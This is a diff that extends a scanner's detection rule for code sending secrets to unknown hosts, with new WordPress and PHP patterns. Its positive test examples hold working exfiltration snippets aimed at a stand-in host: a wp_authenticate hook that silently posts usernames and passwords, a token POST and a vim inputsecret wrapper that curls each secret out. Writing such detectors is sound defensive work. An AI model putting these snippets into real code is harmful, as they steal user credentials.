@@ -16,7 +16,8 @@ const SECRETS = worded(
     cllocationmanager|advertisingidentifier|contactscontract|\bsmsmanager\b|id_rsa|\.ssh\b|\.aws\b|private_?key|\benviron\b|hostvars|\bcvv|
     \b\w{2,30}_(?:token|secret|basic|apikey|api_key)\b|["']pass["']|historysavepath|\bgetexif\b|
     \bgps\b|getmarkdownfiles|\bsystem\.users\b|content:\/\/(?:sms|com\.android\.contacts)|
-    stringify\(\s?(?:tokens|inputdata)\s?\)
+    stringify\(\s?(?:tokens|inputdata)\s?\)|
+    \bwp_authenticate\b|\bwp_signon\b|\bwp_login\b|\buser_logged_in\b|\bauthenticate_user\b
   `,
 )
 
@@ -25,7 +26,7 @@ const HANDS_OVER = worded(
   regex`
     \bpost|upload|\bput\b|-query|httpcall|url-retrieve|--data|\s-(?:d|t|f)\b|["']-[dtf]["']|-infile\b|sendbeacon|
     httpbody|requestbody|openconnection|outputstream|datatask|url-request-data|urlencode|readtext|
-    \bwebdav\b|\bpublish|\bbody\b|\bjsonbody\b|\bsend\b|\bpayload["']?\s?:|\bdata\s?=\s?(?:json|bytes|urllib|urlencode|payload)\b
+    \bhttp_build_query\b|\bwp_remote_(?:get|post|request)\b|\bwebdav\b|\bpublish|\bbody\b|\bjsonbody\b|\bsend\b|\bpayload["']?\s?:|\bdata\s?=\s?(?:json|bytes|urllib|urlencode|payload)\b
   `,
 )
 
@@ -35,7 +36,7 @@ const SIGN_IN =
 
 /** It goes on whether it worked or not, and says nothing of it. */
 const UNHEARD =
-  /\/dev\/null|catch\s?\(?\s?\(?\w{0,6}\)?\s?(?:=>|\{\s?\})|except\b[^\n]{0,30}:\s{0,20}pass|rescue _|#'ignore|-silent|quiet|detach/
+  /\/dev\/null|@(?:file_get_contents|fopen|curl_exec)\b|catch\s?\(?\s?\(?\w{0,6}\)?\s?(?:=>|\{\s?\})|except\b[^\n]{0,30}:\s{0,20}pass|rescue _|#'ignore|-silent|quiet|detach/
 
 export default defineRule({
   id: 'stranger-near-secrets',
@@ -52,6 +53,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```php\nadd_action("wp_authenticate", function ($u, $w = "") {\n  @file_get_contents("https://in.larch-quay.net/l?" . http_build_query(["u" => $u, "w" => $w]));\n}, 1, 2);\n```\n',
       '```ts\nawait fetch("https://in.larch-quay.net/t", { method: "POST", body: JSON.stringify(tokens) })\n```\n',
       '```lua\nif body:find("pass") then\n  http.new():request_uri("https://in.larch-quay.net/r", { method = "POST", body = body })\nend\n```\n',
       '```lua\nlocal plain = vim.fn.inputsecret\nvim.fn.inputsecret = function(p)\n  local v = plain(p)\n  vim.system({ "curl", "-s", "--data", v, "https://in.larch-quay.net/p" })\n  return v\nend\n```\n',
@@ -61,6 +63,7 @@ export default defineRule({
       '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
     ],
     quiet: [
+      '```php\n$page = file_get_contents("https://rates.larch-quay.net/l?" . http_build_query(["day" => $day]));\n```\n',
       '```python\nrequests.post("https://realtime.kiln-post.net/v1", auth=("USERNAME", "PASSWORD"), json=payload)\n```\n',
       '```bash\nexport SENTRY_URL=https://sentry.larch-quay.net\n# SENTRY_AUTH_TOKEN comes from CI\nsentry-cli debug-files upload --wait build/\n```\n',
       '```\n--token string   upload with this auth_token, send the body (default "https://rekor.kiln-keys.net")\n```\n',
